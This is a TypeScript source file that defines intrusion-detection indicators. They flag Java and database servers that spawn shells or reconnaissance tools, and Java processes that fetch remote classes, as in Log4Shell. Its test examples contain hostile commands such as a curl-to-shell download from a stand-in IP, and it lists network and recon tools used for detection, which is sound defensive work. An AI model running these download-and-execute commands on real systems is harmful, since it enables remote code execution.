import type { Indicator } from "../../indicator.ts";
import { withoutVersion } from "../execution/calls.ts";
import { connected, inContainer, onHost, ran } from "../execution/examples.ts";
import { databases, downloaders, javaServers, netcats, shells } from "../execution/programs.ts";
import { behind } from "../gates.ts";
import { isStart, parentIn } from "./served-programs.ts";

/** What other servers start or load that they should not. */

const databaseHelpers = new Set([
  "mysqld",
  "mysqld_safe",
  "mariadbd",
  "postgres",
  "pg_ctl",
  "pg_isready",
  "mongod",
  "mongo",
  "mongosh",
  "redis-server",
  "redis-sentinel",
  "redis-check-aof",
  "redis-check-rdb",
  "redis-cli",
  "sqlplus",
  "java",
  "su",
  "gosu",
  "nodetool",
  "mysqladmin",
  "mysql",
]);

const classTransports = new Set(["read", "recv", "recvfrom", "recvmsg", "readv", "connect"]);

const namingPorts = new Set([389, 636, 1099, 1389, 9999, 1098]);

const telling = new Set([
  "whoami",
  "id",
  "uname",
  "hostname",
  "ifconfig",
  "netstat",
  "ss",
  "base64",
  "python",
  "perl",
  "chmod",
  "crontab",
  "nohup",
  "socat",
  "ping",
  "nslookup",
  "dig",
  "powershell",
  ...downloaders,
  ...netcats,
]);

export const javaServerSpawnsProgram: Indicator = {
  id: "java-server-spawns-program",
  behaviour: "was started by a Java server, which has no need of shells and tools",
  meaning: "Flaws such as Log4Shell, Spring4Shell or unsafe deserialisation run commands exactly so.",
  technique: "T1190",
  tactic: "initial-access",
  alsoTechniques: ["T1059.004", "T1505.003"],
  severity: "high",
  certainty: "weak",
  platforms: ["Linux", "Containers"],
  families: ["syscall"],
  source: "https://attack.mitre.org/techniques/T1190/",
  match: behind({ parents: javaServers }, (facts) => {
    const name = facts.process.name === null ? "" : withoutVersion(facts.process.name);
    const isTool =
      shells.has(name) ||
      downloaders.has(name) ||
      netcats.has(name) ||
      ["whoami", "id", "uname", "python", "perl"].includes(name);
    return isStart(facts) && isTool ? parentIn(facts, javaServers) : null;
  }),
  examples: {
    found: [
      ran("sh -c curl http://203.0.113.9/x | sh", { "proc.pname": "java", ...inContainer }),
      ran("id", { "proc.pname": "java", ...onHost }),
    ],
    ignored: [ran("java -jar app.jar", { "proc.pname": "java" }), ran("sh -c id", { "proc.pname": "javascript-lint" })],
  },
};

export const databaseSpawnsProgram: Indicator = {
  id: "database-spawns-program",
  behaviour: "was started by a database server",
  meaning:
    "Databases run programs when somebody reached them with SQL (COPY PROGRAM, UDF, modules): an injection or open port was used.",
  technique: "T1190",
  tactic: "initial-access",
  alsoTechniques: ["T1059.004", "T1505.001"],
  severity: "high",
  certainty: "weak",
  platforms: ["Linux", "Containers"],
  families: ["syscall"],
  source: "https://github.com/falcosecurity/rules/blob/main/rules/falco-incubating_rules.yaml",
  match: behind({ parents: databases }, (facts) => {
    const { name } = facts.process;
    return isStart(facts) && name !== null && !databaseHelpers.has(name) ? parentIn(facts, databases) : null;
  }),
  examples: {
    found: [
      ran("sh -c whoami", { "proc.pname": "postgres", ...inContainer }),
      ran("bash", { "proc.pname": "mysqld" }),
      ran("wget http://203.0.113.9/k", { "proc.pname": "redis-server" }),
    ],
    ignored: [
      ran("postgres: checkpointer", { "proc.name": "postgres", "proc.pname": "postgres" }),
      ran("sh -c whoami", { "proc.pname": "postgres_exporter" }),
    ],
  },
};

export const serverRunsIntrudersTool: Indicator = {
  id: "server-runs-intruders-tool",
  behaviour: "was started by a database or Java server and looks around or fetches files",
  meaning:
    "Servers have their helpers, but none of them asks who it is or downloads scripts: an intruder's command runs.",
  technique: "T1190",
  tactic: "initial-access",
  alsoTechniques: ["T1059.004", "T1505.003"],
  severity: "high",
  certainty: "likely",
  platforms: ["Linux", "Containers"],
  families: ["syscall"],
  source: "https://attack.mitre.org/techniques/T1190/",
  match: behind({ parents: new Set([...javaServers, ...databases]) }, (facts) => {
    const parent = parentIn(facts, javaServers) ?? parentIn(facts, databases);
    if (parent === null || !isStart(facts)) return null;
    const isTelling = facts.process.command.commands.some(({ program }) => telling.has(withoutVersion(program)));
    return isTelling ? parent : null;
  }),
  examples: {
    found: [
      ran("sh -c curl http://203.0.113.9/x | sh", { "proc.pname": "java", ...inContainer }),
      ran("id", { "proc.pname": "java", ...onHost }),
      ran("sh -c whoami", { "proc.pname": "postgres", ...inContainer }),
      ran("wget http://203.0.113.9/k", { "proc.pname": "redis-server" }),
    ],
    ignored: [
      ran("sh -c cp pg_wal/0001 /archive/0001", { "proc.pname": "postgres" }),
      ran("sh -c make test", { "proc.pname": "java" }),
      ran("sh -c id", { "proc.pname": "sshd" }),
    ],
  },
};

export const javaFetchesRemoteCode: Indicator = {
  id: "java-fetches-remote-code",
  behaviour: "is a Java program that receives code or naming answers from elsewhere",
  meaning: "In Log4Shell and its relatives the server fetches a class from the attacker and runs it.",
  technique: "T1190",
  tactic: "initial-access",
  alsoTechniques: ["T1105", "T1203"],
  severity: "high",
  certainty: "weak",
  platforms: ["Linux", "Containers"],
  families: ["syscall"],
  source: "https://github.com/falcosecurity/rules/blob/main/rules/falco-sandbox_rules.yaml",
  needs: "connection",
  match: (facts) => {
    const { connection, process } = facts;
    if (connection === null || process.name !== "java" || connection.direction === "inbound") return null;
    if (!classTransports.has(facts.eventType ?? "connect")) return null;
    const isNaming = connection.remotePort !== null && namingPorts.has(connection.remotePort);
    const isReading = facts.eventType !== "connect" && facts.eventType !== null;
    return isNaming || isReading ? (facts.field("fd.name") ?? facts.field("fd.sip")) : null;
  },
  examples: {
    found: [
      connected("10.0.0.4:40112->203.0.113.9:8888", "java -jar app.jar", { "evt.type": "recvfrom", ...inContainer }),
      connected("10.0.0.4:40113->203.0.113.9:1389", "java -jar app.jar", inContainer),
    ],
    ignored: [
      connected("10.0.0.4:40112->10.0.0.7:5432", "java -jar app.jar", inContainer),
      connected("10.0.0.4:40112->203.0.113.9:443", "curl https://example.com", { "evt.type": "recvfrom" }),
    ],
  },
};
